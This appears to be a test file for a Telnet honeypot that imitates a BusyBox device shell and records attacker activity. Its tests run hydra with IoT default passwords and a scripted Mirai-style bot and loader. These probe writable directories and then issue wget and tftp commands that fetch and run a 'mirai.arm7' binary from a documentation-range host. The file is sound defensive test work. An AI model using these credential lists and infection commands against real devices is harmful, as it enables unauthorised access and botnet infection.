"""test_telnet.py - the Telnet sensor and its fake BusyBox shell with real clients: the exact BusyBox
telnetd opening, nmap -sV naming BusyBox telnetd, Debian's hydra (every pair it tries is a login
event), a Mirai-style bot and loader (raw sockets, as fingerprints.md section 4 describes them) that
reach their download step with the URL recorded, acceptance keys and caps."""
import json
import re
import socket
import subprocess
import time

from conftest import free_port, scaled, wait_until

IAC, DONT, DO, WONT, WILL, SB, SE = 255, 254, 253, 252, 251, 250, 240
NAWS = 31
OPENING = bytes([IAC, DO, 1, IAC, DO, NAWS, IAC, WILL, 1, IAC, WILL, 3])


def telnet_hanipo(make_hanipo, *overrides, extra="", start=True):
    h = make_hanipo(*overrides, config_text="x", start=False)
    h.port = free_port()
    h.config.write_text(
        "[sensor]\nname = test-sensor\n"
        f"[store]\npath = {h.store}\n"
        f"[telnet]\nlisten = 127.0.0.1:{h.port}\n{extra}")
    if start:
        h.start()
    return h


class Bot:
    """A Telnet client that negotiates as Mirai's scanner does (DO NAWS -> WILL NAWS + 80x24,
    other DO -> WONT, WILL -> DO) and reads text with the commands taken out."""

    def __init__(self, port):
        self.s = socket.create_connection(("127.0.0.1", port), timeout=scaled(5))
        self.raw = b""
        self.text = b""
        self.pending = b""

    def _feed(self, data):
        self.raw += data
        buf = self.pending + data
        self.pending = b""
        i = 0
        out = bytearray()
        while i < len(buf):
            c = buf[i]
            if c != IAC:
                out.append(c)
                i += 1
                continue
            if i + 1 >= len(buf):
                self.pending = buf[i:]
                break
            verb = buf[i + 1]
            if verb == IAC:
                out.append(IAC)
                i += 2
                continue
            if verb in (DO, DONT, WILL, WONT):
                if i + 2 >= len(buf):
                    self.pending = buf[i:]
                    break
                opt = buf[i + 2]
                if verb == DO and opt == NAWS:
                    self.s.sendall(bytes([IAC, WILL, NAWS, IAC, SB, NAWS, 0, 80, 0, 24, IAC, SE]))
                elif verb == DO:
                    self.s.sendall(bytes([IAC, WONT, opt]))
                elif verb == WILL:
                    self.s.sendall(bytes([IAC, DO, opt]))
                i += 3
                continue
            i += 2
        self.text += bytes(out)

    def until(self, pred, timeout=5.0):
        """Reads until pred(text since the mark) holds; returns that text."""
        deadline = time.monotonic() + scaled(timeout)
        start = self.mark
        while not pred(self.text[start:]):
            left = deadline - time.monotonic()
            if left <= 0:
                raise AssertionError(f"timed out; got {self.text[start:]!r}")
            self.s.settimeout(left)
            data = self.s.recv(65536)
            if not data:
                raise AssertionError(f"closed; got {self.text[start:]!r}")
            self._feed(data)
        return self.text[start:]

    mark = 0

    def send(self, line):
        self.mark = len(self.text)
        self.s.sendall(line + b"\r\n")

    def cmd(self, line, token):
        """Sends a command line and waits for 'TOKEN: applet not found'."""
        self.send(line)
        return self.until(lambda t: token + b": applet not found" in t)

    def close(self):
        self.s.close()


def prompt_char(t):
    return any(t.rstrip().endswith(c) for c in (b":", b">", b"$", b"#", b"%")) \
        or b"ogin" in t or b"enter" in t


def bot_login(port, user, password):
    b = Bot(port)
    b.until(prompt_char)
    b.send(user)
    b.until(lambda t: b"assword" in t)
    b.send(password)
    return b


def test_opening_is_busybox_telnetd(make_hanipo):
    h = telnet_hanipo(make_hanipo, extra="[device]\nhostname = dvr-7\n")
    with socket.create_connection(("127.0.0.1", h.port), timeout=scaled(5)) as s:
        got = b""
        while not got.endswith(b"login: "):
            got += s.recv(4096)
    assert got == OPENING + b"\r\r\ndvr-7 login: "
    wait_until(lambda: h.events("connect", "telnet"), what="connect event")


def test_nmap_names_busybox_telnetd(make_hanipo):
    h = telnet_hanipo(make_hanipo)
    r = subprocess.run(["nmap", "-sV", "-Pn", "-n", "-p", str(h.port), "127.0.0.1"],
                       capture_output=True, text=True, timeout=scaled(120))
    line = next(l for l in r.stdout.splitlines() if l.startswith(f"{h.port}/tcp"))
    assert "open" in line and "telnet" in line, r.stdout
    assert "BusyBox telnetd" in line, r.stdout
    assert "tcpwrapped" not in line and "unknown" not in line
    assert "honeypot" not in r.stdout.lower() and "hanipo" not in r.stdout.lower()


def test_hydra_every_pair_is_a_login_event(make_hanipo, tmp_path):
    users = ["admin", "root", "support", "guest"]
    words = ["admin", "xc3511", "vizxv", "1234", "default"]
    (tmp_path / "users").write_text("\n".join(users) + "\n")
    (tmp_path / "pass").write_text("\n".join(words) + "\n")
    (tmp_path / "creds").write_text("# the one pair that works\nroot:vizxv\n")
    # One attempt per connection: hydra 9.4 garbles the second pair it sends on a reused
    # Telnet connection (it sends "\r\0" as the next login); what it sends is recorded as sent.
    h = telnet_hanipo(make_hanipo, "telnet.max_attempts=1",
                      extra=f"accept = list\ncredentials = {tmp_path / 'creds'}\n")
    r = subprocess.run(["hydra", "-V", "-I", "-t", "4", "-L", str(tmp_path / "users"),
                        "-P", str(tmp_path / "pass"), f"telnet://127.0.0.1:{h.port}"],
                       capture_output=True, text=True, timeout=scaled(240), cwd=tmp_path)
    tried = set(re.findall(r'\[ATTEMPT\] target \S+ - login "([^"]*)" - pass "([^"]*)"', r.stdout))
    assert len(tried) >= len(users) * len(words) - 2, r.stdout    # root: found, then skipped
    assert re.search(r"login: root\s+password: vizxv", r.stdout), r.stdout
    logins = wait_until(lambda: (lambda ev: ev if len(ev) >= len(tried) else None)(
        h.events("login", "telnet")), what="login events")
    got = {(e["fields"]["user"], e["fields"]["password"]) for e in logins}
    assert got == tried
    ok = [(e["fields"]["user"], e["fields"]["password"]) for e in logins if e["fields"]["success"]]
    assert ok == [("root", "vizxv")]
    assert all(e["src_port"] > 0 for e in logins)


def test_mirai_bot_and_loader_reach_download(make_hanipo):
    h = telnet_hanipo(make_hanipo, extra="accept = any\n")
    # The scanner: log in, elevate (each word with its NUL), check with a token.
    b = bot_login(h.port, b"root", b"xc3511")
    b.until(lambda t: t.rstrip().endswith(b"#"))
    for w in (b"enable", b"system", b"shell", b"sh"):
        b.send(w + b"\0")
        b.until(lambda t: t.rstrip().endswith(b"#"))
    out = b.cmd(b"/bin/busybox MIRAI\0", b"MIRAI")
    assert b"ncorrect" not in b.text
    b.close()

    # The loader (another connection), each step waiting for its token.
    tok = b"ECCHI"
    ld = bot_login(h.port, b"root", b"xc3511")
    ld.until(lambda t: t.rstrip().endswith(b"#"))
    for w in (b"enable", b"shell", b"sh"):
        ld.send(w)
        ld.until(lambda t: t.rstrip().endswith(b"#"))
    ld.cmd(b"/bin/busybox " + tok, tok)
    ps = ld.cmd(b"/bin/busybox ps; /bin/busybox " + tok, tok)
    assert b"PID" in ps
    mounts = ld.cmd(b"/bin/busybox cat /proc/mounts; /bin/busybox " + tok, tok)
    rw = [l.split()[1] for l in mounts.splitlines()
          if len(l.split()) >= 4 and b"rw" in l.split()[3].split(b",")]
    assert b"/var" in rw or b"/tmp" in rw
    writable = None
    for d in rw + [b"/dev"]:
        hexd = b"".join(b"\\x%02x" % c for c in b"kami")
        out = ld.cmd(b"/bin/busybox echo -e '" + hexd + d + b"' > " + d + b"/.nippon; "
                     b"/bin/busybox cat " + d + b"/.nippon; /bin/busybox rm " + d + b"/.nippon"
                     b"; /bin/busybox " + tok, tok)
        m = re.search(rb"kami(/\S*)", out)
        if m and writable is None and len(m.group(1)) < 31:
            writable = m.group(1)
    assert writable in (b"/var", b"/tmp", b"/dev")    # "/" is a read-only squashfs
    ld.send(b"cd " + writable + b"/")
    ld.until(lambda t: t.rstrip().endswith(b"#"))
    ld.cmd(b"/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper; "
           b"/bin/busybox " + tok, tok)
    elf = ld.cmd(b"/bin/busybox cat /bin/echo; /bin/busybox " + tok, tok)
    at = elf.index(b"\x7fELF")
    hdr = elf[at:at + 52]
    assert hdr[4] == 1 and hdr[5] == 1            # ELF32, little-endian
    assert int.from_bytes(hdr[18:20], "little") == 40   # EM_ARM
    cpu = ld.cmd(b"cat /proc/cpuinfo; /bin/busybox " + tok, tok)
    arch = b"arm7" if b"ARMv7" in cpu or b"ARMv6" in cpu else b"arm"
    assert arch == b"arm7"
    methods = ld.cmd(b"/bin/busybox wget; /bin/busybox tftp; /bin/busybox " + tok, tok)
    assert b"wget: applet not found" not in methods and b"tftp: applet not found" not in methods
    url = b"http://192.0.2.1:80/bins/mirai." + arch
    ld.cmd(b"/bin/busybox wget " + url + b" -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; "
           b"/bin/busybox " + tok, tok)
    ld.cmd(b"/bin/busybox tftp -g -l dvrHelper -r mirai." + arch + b" 192.0.2.1; /bin/busybox "
           + tok, tok)
    ld.cmd(b"./dvrHelper telnet." + arch + b"; /bin/busybox IHCCE", b"IHCCE")
    assert b"ncorrect" not in ld.text
    ld.close()

    dl = wait_until(lambda: (lambda ev: ev if len(ev) >= 2 else None)(
        h.events("download_url", "telnet")), what="download_url events")
    assert {(e["fields"]["url"], e["fields"]["tool"]) for e in dl} == {
        (url.decode(), "wget"), ("tftp://192.0.2.1/mirai.arm7", "tftp")}
    tftp = next(e["fields"] for e in dl if e["fields"]["tool"] == "tftp")
    assert tftp["host"] == "192.0.2.1" and tftp["file"] == "mirai.arm7"
    cmds = [e["fields"]["command"] for e in h.events("command", "telnet")]
    assert "enable\u0000" in cmds and "/bin/busybox MIRAI\u0000" in cmds
    assert any(c.startswith("/bin/busybox wget http://192.0.2.1") for c in cmds)
    logins = h.events("login", "telnet")
    assert logins[0]["fields"]["naws"] == 80 and logins[0]["fields"]["naws_h"] == 24

    # hanipo stats: credentials, commands and download URLs, per protocol
    j = json.loads(h.cli("stats", "--json", "--top", "0").stdout)["top"]
    assert {"user": "root", "password": "xc3511", "proto": "telnet", "count": 2} \
        in j["credentials"]
    assert {"url": url.decode(), "proto": "telnet", "count": 1} in j["download_urls"]
    c = {x["command"]: x for x in j["commands"]}
    assert c["sh"]["count"] == 2 and c["sh"]["proto"] == "telnet"
    text = h.cli("stats").stdout
    assert re.search(r"^\s+2\s+root\s+xc3511\s+telnet\s*$", text, re.M), text
    assert "top commands" in text and "/bin/busybox MIRAI" in text, text


def test_default_accepts_a_repeated_pair_within_five_tries(make_hanipo):
    h = telnet_hanipo(make_hanipo, "telnet.fail_delay=200")
    results = []
    for _ in range(5):
        b = bot_login(h.port, b"root", b"xmhdipc")
        t = b.until(lambda t: b"login:" in t or t.rstrip().endswith(b"#"))
        results.append(t.rstrip().endswith(b"#"))
        b.close()
        if results[-1]:
            break
    assert results[-1] and len(results) <= 5
    # that source now gets in with that pair only
    b = bot_login(h.port, b"admin", b"admin")
    assert b"Login incorrect" in b.until(lambda t: b"login:" in t)
    b.close()
    b = bot_login(h.port, b"root", b"xmhdipc")
    b.until(lambda t: t.rstrip().endswith(b"#"))
    b.close()
    ev = wait_until(lambda: (lambda ev: ev if len(ev) >= len(results) + 2 else None)(
        h.events("login", "telnet")), what="login events")
    assert [e["fields"]["success"] for e in ev] == [False] * (len(results) - 1) + [True, False,
                                                                                    True]


def test_empty_user_and_password_are_recorded(make_hanipo):
    h = telnet_hanipo(make_hanipo, "telnet.fail_delay=0", extra="accept = after:100\n")
    b = bot_login(h.port, b"", b"")
    b.until(lambda t: b"Login incorrect" in t and b"login:" in t)
    b.close()
    ev = wait_until(lambda: h.events("login", "telnet"), what="login event")
    assert ev[0]["fields"]["user"] == "" and ev[0]["fields"]["password"] == ""
    assert ev[0]["fields"]["success"] is False


def test_failed_logins_pause_and_close_after_max_attempts(make_hanipo):
    h = telnet_hanipo(make_hanipo, "telnet.fail_delay=1500", extra="accept = after:100\n")
    b = Bot(h.port)
    b.mark = 0
    b.until(lambda t: b"login:" in t)
    for i in range(3):
        b.send(b"u%d" % i)
        b.until(lambda t: b"assword" in t)
        t0 = time.monotonic()
        b.send(b"p")
        if i == 2:      # typed during the last pause: recorded, never answered
            b.s.sendall(b"typed after the last failure\r\n")
        b.until(lambda t: b"Login incorrect" in t)
        assert time.monotonic() - t0 >= 1.2       # BusyBox login's pause (a lower bound)
    b.s.settimeout(scaled(5))
    while b.s.recv(4096):
        pass
    b.close()
    assert len(h.events("login", "telnet")) == 3
    wait_until(lambda: [e for e in h.events("close", "telnet")
                        if e["fields"]["reason"] == "login_failed"], what="close event")
    p = wait_until(lambda: h.events("payload", "telnet"), what="payload")
    assert p[0]["fields"]["incomplete"] == "unanswered"


def test_bad_credentials_file_names_its_line(make_hanipo, tmp_path):
    creds = tmp_path / "creds.txt"
    creds.write_text("root:xc3511\n# ok\nno-colon-here\n")
    h = telnet_hanipo(make_hanipo, extra=f"accept = list\ncredentials = {creds}\n", start=False)
    r = h.cli("check", check=False)
    assert r.returncode == 2
    assert f"{creds}:3: expected user:password" in r.stderr
    h2 = telnet_hanipo(make_hanipo, extra="accept = sometimes\n", start=False)
    r = h2.cli("check", check=False)
    assert r.returncode == 2 and "accept" in r.stderr and "hanipo.conf:7:" in r.stderr


def test_long_line_is_cut_and_recorded(make_hanipo):
    h = telnet_hanipo(make_hanipo, extra="accept = any\n")
    b = bot_login(h.port, b"root", b"root")
    b.until(lambda t: t.rstrip().endswith(b"#"))
    b.send(b"echo " + b"A" * 20000)
    b.until(lambda t: t.rstrip().endswith(b"#"))
    b.send(b"/bin/busybox OK")
    b.until(lambda t: b"OK: applet not found" in t)
    b.close()
    cmds = wait_until(lambda: (lambda ev: ev if len(ev) >= 2 else None)(
        h.events("command", "telnet")), what="command events")
    assert cmds[0]["fields"].get("cut") is True
    assert len(cmds[0]["fields"]["command"]) == 4096


def test_last_line_without_end_and_bytes_after_exit_are_recorded(make_hanipo):
    h = telnet_hanipo(make_hanipo, extra="accept = any\n")
    b = bot_login(h.port, b"root", b"root")
    b.until(lambda t: t.rstrip().endswith(b"#"))
    b.mark = len(b.text)
    b.s.sendall(b"cd /tmp; wget http://192.0.2.9/last.sh")      # no line end, then EOF
    b.s.shutdown(socket.SHUT_WR)
    b.until(lambda t: b"Connection refused" in t)                # answered on the half-close
    b.close()
    dl = wait_until(lambda: h.events("download_url", "telnet"), what="download_url")
    assert dl[0]["fields"]["url"] == "http://192.0.2.9/last.sh"

    b = bot_login(h.port, b"root", b"root")
    b.until(lambda t: t.rstrip().endswith(b"#"))
    b.s.sendall(b"exit\r\nwget http://192.0.2.10/after-exit.sh\r\n")
    b.s.settimeout(scaled(5))
    while b.s.recv(4096):
        pass
    b.close()
    p = wait_until(lambda: [e for e in h.events("payload", "telnet")
                            if e["fields"]["incomplete"] == "unanswered"], what="payload")
    assert p[0]["fields"]["phase"] == "closed"
    assert len(h.events("download_url", "telnet")) == 1          # after exit: recorded, not run
